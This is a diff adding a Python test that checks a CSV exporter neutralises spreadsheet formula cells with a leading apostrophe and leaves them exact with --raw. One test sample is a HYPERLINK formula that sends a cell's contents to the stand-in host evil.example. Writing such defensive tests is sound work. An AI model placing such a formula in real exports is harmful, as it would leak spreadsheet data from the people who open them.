@@ -238,6 +238,37 @@ def check_csv(out, expected, texts, project):
     ok(got == expected, "csv keeps every span")
 
 
+def check_csv_formulas(tmp):
+    """Cells a spreadsheet would run as formulas get a ' unless --raw; Python's csv reads both back."""
+    live = ['=HYPERLINK("http://evil.example/?q="&A1,"Open")', "+1", "-2", "@SUM(A1:A3)", "\t=1+1", "\r=1+1"]
+    inert = ["1-2", "“Karak”", "بنوں", "🙂=1", " =1", "a;=1+1"]
+    docs = []
+    for i, cell in enumerate(live + inert):
+        text = cell + " in Bannu"
+        docs.append({
+            "id": f"d{i}", "name": f"d{i}", "status": "done",
+            "fingerprint": "sha256:" + hashlib.sha256(text.encode("utf-8")).hexdigest(),
+            "text": text,
+            "layers": {"tester": [{"id": i + 1, "start": 0, "end": len(cell), "label": "LOCATION", "note": cell}]},
+        })
+    project = {"format": "spanmark-project", "version": 1, "offset_unit": "codepoint",
+               "annotators": ["tester"], "schema": {"labels": [{"name": "LOCATION", "color": "#56B4E9", "key": "1"}]},
+               "documents": docs}
+    path = tmp / "formulas.spanmark.json"
+    path.write_text(json.dumps(project, ensure_ascii=False), encoding="utf-8")
+    for raw in [False, True]:
+        out = tmp / ("formulas-raw" if raw else "formulas")
+        run("export", path, "--format", "csv", "--out", out, *(["--raw"] if raw else []))
+        with open(out / "data.csv", newline="", encoding="utf-8") as f:
+            rows = {r["document"]: r for r in csv.DictReader(f)}
+        ok(len(rows) == len(docs), "one csv row per formula span")
+        for i, cell in enumerate(live + inert):
+            want = "'" + cell if cell in live and not raw else cell
+            row = rows[f"d{i}"]
+            ok(row["text"] == want and row["note"] == want, f"csv cell {cell!r} (raw={raw}): {row}")
+            ok(int(row["end"]) == len(cell), f"csv offsets unchanged: {row}")
+
+
 def main():
     with tempfile.TemporaryDirectory() as tmp:
         tmp = Path(tmp)
@@ -257,6 +288,8 @@ def main():
             check_label_studio(base / "label-studio", expected, texts)
             check_csv(base / "csv", expected, texts, raw)
             print(f"{project.name}: all formats agree with their consumers")
+        check_csv_formulas(tmp)
+        print("csv: formula cells neutralized, exact with --raw")
     print(f"{checks} passed, 0 failed")
 
 
